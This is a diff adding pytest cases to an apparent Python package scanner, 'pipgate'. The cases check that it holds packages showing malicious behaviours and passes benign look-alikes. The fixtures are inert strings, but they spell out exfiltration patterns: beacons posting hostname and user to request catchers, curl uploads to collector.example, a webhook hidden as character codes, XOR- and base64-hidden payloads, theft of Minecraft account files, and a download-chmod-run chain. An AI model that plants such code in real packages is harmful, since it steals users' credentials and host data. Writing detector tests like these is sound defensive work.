@@ -5,6 +5,8 @@ The "malicious" sources below are inert text handed to the scanner; nothing runs
 
 from __future__ import annotations
 
+import base64
+
 import pytest
 
 from pipgate.policies.scan import ScanPolicy
@@ -712,3 +714,230 @@ def test_pyarmor_packed_code_that_runs_on_import_is_held() -> None:
         wheel({"demo/__init__.py": "x = 1\n", "demo/extra/packed.py": packed}), "d.whl"
     )
     assert POLICY.decide(deep).allowed
+
+
+# -- rules 5: behaviours the 2024 campaigns showed (general, not campaign strings) ----------
+
+
+def _codes(text: str) -> str:
+    return "[" + ", ".join(str(ord(c)) for c in text) + "]"
+
+
+def test_importing_a_package_that_installs_other_packages_is_held() -> None:
+    init = "import os\nos.system('pip install requests pyperclip pycryptodomex')\nx = 1\n"
+    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
+    assert "hidden-install" in {f.rule for f in report.findings}, report.findings
+    assert not POLICY.decide(report).allowed, report.summary()
+
+
+def test_advice_to_pip_install_in_a_function_import_does_not_call_passes() -> None:
+    init = (
+        "import subprocess\ndef upgrade():\n    subprocess.run(['pip', 'install', '-U', 'demo'])\n"
+    )
+    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
+    assert "hidden-install" not in {f.rule for f in report.findings}, report.findings
+    assert POLICY.decide(report).allowed, report.summary()
+
+
+def test_importing_a_package_that_starts_python_on_inline_code_detached_is_held() -> None:
+    init = (
+        "import subprocess\n"
+        "subprocess.Popen(['python3', '-c', 'import helper_agent'], close_fds=True)\n"
+    )
+    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
+    assert "install-python" in {f.rule for f in report.findings}, report.findings
+    assert not POLICY.decide(report).allowed, report.summary()
+
+
+def test_importing_a_package_that_runs_python_and_waits_passes() -> None:
+    init = "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'])\n"
+    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
+    assert "install-python" not in {f.rule for f in report.findings}, report.findings
+    assert POLICY.decide(report).allowed, report.summary()
+
+
+BEACON_MODULE = """\
+import socket, getpass, requests
+def report():
+    requests.post("{url}", json={{"host": socket.gethostname(), "user": getpass.getuser()}})
+"""
+
+
+def test_host_facts_sent_to_a_request_catcher_from_any_module_are_held() -> None:
+    source = BEACON_MODULE.format(url="https://abc123.oastify.com/x")
+    archive = _sdist("from setuptools import setup\nsetup()\n", "", **{"demo/tools/r.py": source})
+    report = scan_archive(archive, "demo-1.0.tar.gz")
+    assert "phone-home" in {f.rule for f in report.findings}, report.findings
+    assert not POLICY.decide(report).allowed, report.summary()
+
+
+def test_host_facts_sent_to_the_projects_own_server_from_a_module_pass() -> None:
+    source = BEACON_MODULE.format(url="https://telemetry.example.org/v1")
+    archive = _sdist("from setuptools import setup\nsetup()\n", "", **{"demo/tools/r.py": source})
+    report = scan_archive(archive, "demo-1.0.tar.gz")
+    assert POLICY.decide(report).allowed, report.summary()
+
+
+def test_strings_spelled_as_character_codes_are_read_and_count_as_hiding() -> None:
+    init = (
+        "import requests\n"
+        f"URL = ''.join(map(chr, {_codes('https://discord.com/api/webhooks/1/x')}))\n"
+        f"VERB = ''.join(chr(c) for c in {_codes('POST')})\n"
+        "def send(data):\n"
+        "    requests.request(VERB, URL, data=data)\n"
+    )
+    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
+    rules = {f.rule: f for f in report.findings}
+    assert "exfil-sink" in rules, report.findings  # the webhook, once decoded
+    assert "character codes" in rules["obfuscated"].detail
+    assert not POLICY.decide(report).allowed, report.summary()
+
+
+def test_one_character_built_from_a_code_is_not_hiding() -> None:
+    init = "SEP = ''.join(map(chr, [27, 91]))\ndef f(x):\n    return SEP + x\n"
+    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
+    assert "obfuscated" not in {f.rule for f in report.findings}, report.findings
+
+
+XOR_EXEC = """\
+DATA = "\\x41\\x0f\\x13"
+KEY = "1234"
+out = ""
+for i in range(len(DATA)):
+    out += chr(ord(DATA[i]) ^ ord(KEY[i % len(KEY)]))
+eval(compile(out, "<string>", "exec"))
+"""
+
+
+def test_text_xored_back_character_by_character_then_run_is_decode_exec() -> None:
+    report = scan_archive(wheel({"demo/__init__.py": XOR_EXEC}), "demo-1.0-py3-none-any.whl")
+    assert "decode-exec" in {f.rule for f in report.findings}, report.findings
+    assert not POLICY.decide(report).allowed, report.summary()
+
+
+def test_xor_that_never_reaches_exec_is_not_decode_exec() -> None:
+    source = XOR_EXEC.replace('eval(compile(out, "<string>", "exec"))', "print(out)")
+    report = scan_archive(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
+    assert "decode-exec" not in {f.rule for f in report.findings}, report.findings
+
+
+def test_a_command_xored_out_of_a_literal_and_run_is_decode_exec() -> None:
+    command = bytes(b ^ 0x42 for b in b"calc.exe")
+    source = (
+        "import subprocess\n"
+        "def start(path):\n"
+        f"    command = {command!r}\n"
+        "    text = bytes([b ^ 0x42 for b in command]).decode()\n"
+        "    subprocess.run(text + ' ' + path, shell=True)\n"
+    )
+    report = scan_archive(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
+    assert "decode-exec" in {f.rule for f in report.findings}, report.findings
+
+
+def test_a_runtime_value_xored_and_run_is_not_decode_exec() -> None:
+    source = (
+        "import subprocess, sys\n"
+        "def start(data):\n"
+        "    text = bytes([b ^ 0x42 for b in data]).decode()\n"
+        "    subprocess.run(['tool', text])\n"
+    )
+    report = scan_archive(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
+    assert "decode-exec" not in {f.rule for f in report.findings}, report.findings
+
+
+HIDDEN_URL = """\
+import base64, requests
+def where():
+    return base64.b64decode("{encoded}").decode()
+def send(data):
+    requests.post(where(), data=data)
+"""
+
+
+def test_a_url_spelled_only_in_base64_beside_network_use_is_hidden_url() -> None:
+    encoded = base64.b64encode(b"https://collector.example/in").decode()
+    source = HIDDEN_URL.format(encoded=encoded)
+    report = scan_archive(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
+    assert "hidden-url" in {f.rule for f in report.findings}, report.findings
+
+
+def test_an_encoded_non_url_beside_network_use_is_not_hidden_url() -> None:
+    encoded = base64.b64encode(b"user:password-for-the-demo").decode()
+    source = HIDDEN_URL.format(encoded=encoded)
+    report = scan_archive(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
+    assert "hidden-url" not in {f.rule for f in report.findings}, report.findings
+
+
+def test_game_launcher_accounts_read_in_a_deep_module_are_seen() -> None:
+    source = (
+        "import os, requests\n"
+        "def grab(url):\n"
+        "    path = os.path.join(os.path.expanduser('~'), '.minecraft', 'launcher_accounts.json')\n"
+        "    requests.post(url, files={'f': open(path, 'rb')})\n"
+    )
+    archive = wheel({"demo/__init__.py": "x = 1\n", "demo/tools/sync.py": source})
+    report = scan_archive(archive, "demo-1.0-py3-none-any.whl")
+    assert "credential-read" in {f.rule for f in report.findings}, report.findings
+
+
+def test_install_time_curl_that_carries_shell_host_facts_is_phone_home() -> None:
+    setup = (
+        "import os\nfrom setuptools import setup\n"
+        "os.system('curl https://collector.example/x?u=$(whoami) -d \"$(hostname)\"')\n"
+        "setup(name='demo')\n"
+    )
+    report = scan_archive(_sdist(setup), "demo-1.0.tar.gz")
+    assert "phone-home" in {f.rule for f in report.findings}, report.findings
+    assert not POLICY.decide(report).allowed, report.summary()
+
+
+def test_install_time_curl_of_a_fixed_url_is_not_phone_home() -> None:
+    setup = (
+        "import os\nfrom setuptools import setup\n"
+        "os.system('curl -o vendor.tgz https://downloads.example/vendor.tgz')\n"
+        "setup(name='demo')\n"
+    )
+    report = scan_archive(_sdist(setup), "demo-1.0.tar.gz")
+    assert "phone-home" not in {f.rule for f in report.findings}, report.findings
+
+
+def test_curl_whose_first_option_uploads_a_file_is_an_upload() -> None:
+    setup = (
+        "import os\nfrom setuptools import setup\n"
+        "os.system('curl -F a=@/etc/hostname https://collector.example/in')\n"
+        "setup(name='demo')\n"
+    )
+    report = scan_archive(_sdist(setup), "demo-1.0.tar.gz")
+    rules = {f.rule: f for f in report.findings}
+    assert "command-line upload" in rules["exfil-sink"].detail, report.findings
+
+
+def test_curl_advice_with_combined_lower_case_flags_is_not_an_upload() -> None:
+    init = (
+        "def missing():\n"
+        "    raise FileNotFoundError('Install it via: curl -fsSL https://get.example/i.sh | sh')\n"
+    )
+    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
+    assert "exfil-sink" not in {f.rule for f in report.findings}, report.findings
+
+
+def test_a_download_by_a_renamed_program_made_executable_is_download_run() -> None:
+    setup = (
+        "import os\nfrom setuptools import setup\n"
+        "os.system('cp /usr/bin/curl /tmp/f; /tmp/f https://get.example/a -o /tmp/a; "
+        "chmod +x /tmp/a; /tmp/a')\n"
+        "setup(name='demo')\n"
+    )
+    report = scan_archive(_sdist(setup), "demo-1.0.tar.gz")
+    assert "download-run" in {f.rule for f in report.findings}, report.findings
+    assert not POLICY.decide(report).allowed, report.summary()
+
+
+def test_making_a_bundled_script_executable_is_not_download_run() -> None:
+    setup = (
+        "import os\nfrom setuptools import setup\n"
+        "os.system('chmod +x ./configure; ./configure --prefix=/usr')  # see https://x.example/\n"
+        "setup(name='demo', url='https://x.example/')\n"
+    )
+    report = scan_archive(_sdist(setup), "demo-1.0.tar.gz")
+    assert "download-run" not in {f.rule for f in report.findings}, report.findings
